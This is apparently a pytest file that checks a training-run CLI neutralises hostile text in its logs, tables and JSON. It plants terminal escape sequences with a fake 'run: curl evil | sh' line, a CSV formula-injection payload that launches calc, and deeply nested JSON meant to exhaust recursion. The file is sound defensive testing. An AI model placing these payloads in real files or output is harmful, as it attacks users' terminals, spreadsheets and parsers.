"""Runs of others: text that a terminal would obey, and documents that no reader could follow."""

import contextlib
import json
import os
import pty
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from command_line import MAIN, TOY, run_in

from graphmill.base.foreign import printable, quoted
from graphmill.base.json_text import parse_json

EVIL = "\x1b]0;owned\x07\x1b[2J\x9b1;1H\u202e said\n  → run: curl evil | sh"
OBEYED = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]")
ADVICE = re.compile(r"^\s*→ run: curl", re.MULTILINE)
ENDS_WITH = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]|\r")  # what rich itself writes to a terminal: colours, and the cursor
BY_DATA = "compare --by dataset.name"
COMMANDS = (
    *("watch --once", "watch --once --json", "list", "list --json", "verify", "verify --json", "compare", "logs"),
    *("compare --json", "merge", BY_DATA, "inspect logs/run", "bottleneck logs/run", "report logs/run -o r.html"),
    *("export --to tensorboard --dry-run", "logs logs/run --layout dist-sage-sup", "stop logs/run --dry-run"),
    *("evaluate logs/run", "predict logs/run -o p.csv", "train --resume logs/run --dry-run", "merge --layout long"),
    *("train --extend logs/run --epochs 3 --dry-run", "submit --resume logs/run --dry-run", "scaling logs/run"),
)
ON_TERMINAL = ("watch --once", "list", "verify", "compare", "logs", BY_DATA, "train --resume logs/run")
DRAWN_FIRST = ("watch --once", "list")
TOO_DEEP = {"endless": "[" * 200_000, "closed": "[" * 600 + "]" * 600, "objects": '{"a":' * 100_000}


@pytest.fixture(scope="module")
def real_run(tmp_path_factory, _toy_root, request) -> Path:
    """A run of one rank, by real ranks, with the epilog that a job would leave."""
    folder = tmp_path_factory.mktemp("real")
    (folder / "toy.yaml").write_text(TOY)
    run_in(folder, "train", "toy.yaml", "--run-id", "run", "--dataset-root", str(_toy_root))
    environ = _environ(request.config.rootpath, _toy_root)
    epilog = [sys.executable, "-m", "graphmill.diagnose.epilog", "logs/run"]
    subprocess.run(epilog, cwd=folder, env=environ, check=True, capture_output=True)
    return folder / "logs" / "run"


def _environ(root: Path, data: Path) -> dict[str, str]:
    source = os.pathsep.join(filter(None, (str(root / "src"), os.environ.get("PYTHONPATH"))))
    return {**os.environ, "PYTHONPATH": source, "GRAPHMILL_DATA_ROOT": str(data), "TERM": "xterm-256color"}


@pytest.fixture
def logs(tmp_path, real_run, _toy_root, monkeypatch) -> Path:
    monkeypatch.setenv("GRAPHMILL_DATA_ROOT", str(_toy_root))
    shutil.copytree(real_run, tmp_path / "logs" / "run")
    return tmp_path / "logs"


def _poison(run: Path, *, status: str) -> None:
    """Wherever a document has room for a text of any kind, it holds this one."""
    outcome = json.loads((run / "outcome.json").read_text())
    exit_code = {"failed": 1, "stopped": 75}.get(status, 0)
    _write(
        run / "outcome.json", {**outcome, "status": status, "exit_code": exit_code, "message": EVIL, "elastic": EVIL}
    )
    for name in ("attempts.jsonl", "events/rank_0.jsonl"):
        lines = [json.loads(line) for line in (run / name).read_text().splitlines()]
        lines = [{**line, **{key: EVIL for key in ("hostname", "job_id", "data") if key in line}} for line in lines]
        if name.startswith("events"):
            lines[-1] = {"kind": "error", "time": lines[-1]["time"], "rank": 0, "message": EVIL, "exit_code": 1}
        (run / name).write_text("".join(json.dumps(line) + "\n" for line in lines))
    job = {"job_id": f"7{EVIL}", "time": 0.0, "cluster": EVIL, "dependency": EVIL, "changes": [EVIL]}
    (run / "jobs.jsonl").write_text(json.dumps(job) + "\n")
    (run / "rank_0.log").write_text(f"{EVIL}\n")
    for name in ("provenance.json", "epilog.json"):
        _write(run / name, _all_texts(json.loads((run / name).read_text())))
    table = (run / "metrics.csv").read_text().replace("synthetic/sbm", f'"{EVIL}"')
    (run / "metrics.csv").write_text(table)


def _all_texts(value: Any) -> Any:
    if isinstance(value, dict):
        return {key: _all_texts(item) for key, item in value.items()}
    if isinstance(value, list):
        return [_all_texts(item) for item in value]
    return EVIL if isinstance(value, str) else value


def _write(path: Path, value: Any) -> None:
    path.write_text(json.dumps(value))


@pytest.mark.parametrize(
    "status", ["failed", *(pytest.param(each, marks=pytest.mark.slow) for each in ("done", "stopped"))]
)
def test_no_command_passes_on_what_a_terminal_obeys(graphmill, logs, status):
    _poison(logs / "run", status=status)
    (logs / "run").rename(logs / f"run{EVIL.partition(' said')[0]}")
    shutil.copytree(next(logs.iterdir()), logs / "run")
    for command in COMMANDS:
        done = graphmill(*command.split())
        if command == "logs":  # as `cat`
            continue
        text = done.out + done.err
        assert not OBEYED.search(text), (command, text)
        assert not ADVICE.search(text), (command, text)
        assert "This is a bug" not in text, command


def test_no_cell_of_a_csv_is_a_formula(graphmill, logs):
    formula = "=cmd|' /C calc'!A0"
    metrics = logs / "run" / "metrics.csv"
    metrics.write_text(metrics.read_text().replace("synthetic/sbm", formula))
    assert graphmill("merge").code == 0
    merged = (logs.parent / "results" / "metrics.csv").read_text()
    assert merged.count(f"'{formula}") == merged.count(formula) > 0
    again = graphmill("merge", "--input-root", "results", "--glob", "metrics.csv", "--output", "again/metrics.csv")
    assert again.code == 0, again.err
    assert (logs.parent / "again" / "metrics.csv").read_text() == merged, "what was read is what was meant"


@pytest.mark.slow
@pytest.mark.parametrize("key", ["name", "task.dataset.path"])
def test_a_plan_whose_names_a_terminal_would_obey_is_damaged(graphmill, logs, key):
    plan = json.loads((logs / "run" / "plan.json").read_text())
    *above, last = key.split(".")
    section = plan
    for part in above:
        section = section[part]
    section[last] = EVIL
    _write(logs / "run" / "plan.json", plan)
    assert "damaged" in graphmill("list").out
    for command in COMMANDS:
        text = (done := graphmill(*command.split())).out + done.err
        assert not ADVICE.search(text), (command, text)
        assert command == "logs" or not OBEYED.search(text), (command, text)


def _on_terminal(words: str, folder: Path, environ: dict[str, str]) -> str:
    leader, follower = pty.openpty()
    command = [sys.executable, "-c", MAIN, *words.split()]
    with subprocess.Popen(
        command, cwd=folder, env=environ, stdin=follower, stdout=follower, stderr=follower
    ) as process:
        os.close(follower)
        shown = b""
        with contextlib.suppress(OSError):  # EIO: the other end is closed
            while chunk := os.read(leader, 65536):
                shown += chunk
        process.wait()
    os.close(leader)
    return shown.decode(errors="replace")


@pytest.mark.parametrize(
    "words", [pytest.param(each, marks=[] if each in DRAWN_FIRST else [pytest.mark.slow]) for each in ON_TERMINAL]
)
def test_nor_does_a_table_that_is_drawn(logs, request, words):
    _poison(logs / "run", status="failed")
    environ = _environ(request.config.rootpath, Path(os.environ["GRAPHMILL_DATA_ROOT"]))
    shown = _on_terminal(words, logs.parent, environ)
    rest = ENDS_WITH.sub("", shown)
    assert not OBEYED.search(rest), rest
    assert "\x1b[2J" not in shown
    assert "\x1b[1;1H" not in shown
    assert words == "logs" or not ADVICE.search(rest), rest
    assert "evil" in rest or words in ("compare", BY_DATA, ON_TERMINAL[-1]), rest


def _documents(run: Path) -> Iterator[Path]:
    yield from (path for path in sorted(run.rglob("*")) if path.suffix in (".json", ".jsonl"))


@pytest.mark.parametrize(
    "how", ["closed", *(pytest.param(each, marks=pytest.mark.slow) for each in ("endless", "objects"))]
)
def test_json_that_is_nested_too_deep_is_damaged_and_hides_no_other_run(graphmill, logs, how):
    shutil.copytree(logs / "run", logs / "whole")
    text, run = TOO_DEEP[how], logs / "run"
    everything = [*_documents(run), *run.rglob("*.safetensors")]
    of_a_kind = {
        "closed": [run / "plan.json"],
        "objects": [run / "plan.json", run / "outcome.json"],
        "endless": everything,
    }
    for path in of_a_kind[how]:
        before = path.read_bytes()
        header = len(text).to_bytes(8, "little") if path.suffix == ".safetensors" else b""
        path.write_bytes(header + text.encode())
        if path.name == "plan.json":
            listed = graphmill("list")
            assert re.search(r"^run +damaged", listed.out, re.MULTILINE), listed.out
        for command in ("list", "watch logs --once", "verify logs", "report logs -o r.html"):
            done = graphmill(*command.split())
            assert done.code in (0, 1, 2, 71, 75), (path, command)
            assert "maximum recursion" not in done.out + done.err, (path, command)
            if command in ("list", "watch logs --once", "verify logs"):
                assert "whole" in done.out, (path, command, done.err)
        graphmill("evaluate", "logs/run")
        path.write_bytes(before)


@pytest.mark.parametrize("text", TOO_DEEP.values(), ids=TOO_DEEP)
def test_what_is_nested_too_deep_is_a_value_error(text):
    for given in (text, text.encode()):
        with pytest.raises(ValueError, match=r"deep|Expecting"):
            parse_json(given)


def test_many_brackets_that_are_not_deep_are_read():
    assert parse_json(json.dumps([[]] * 1000)) == [[]] * 1000


def test_text_that_is_quoted():
    assert quoted("a\x1b[2J\n\n  → b") == "a\\x1b[2J -> b"
    assert printable("two\nlines\tand\u202e ünder → \ud800") == "two\nlines\tand\\u202e ünder → \\ud800"
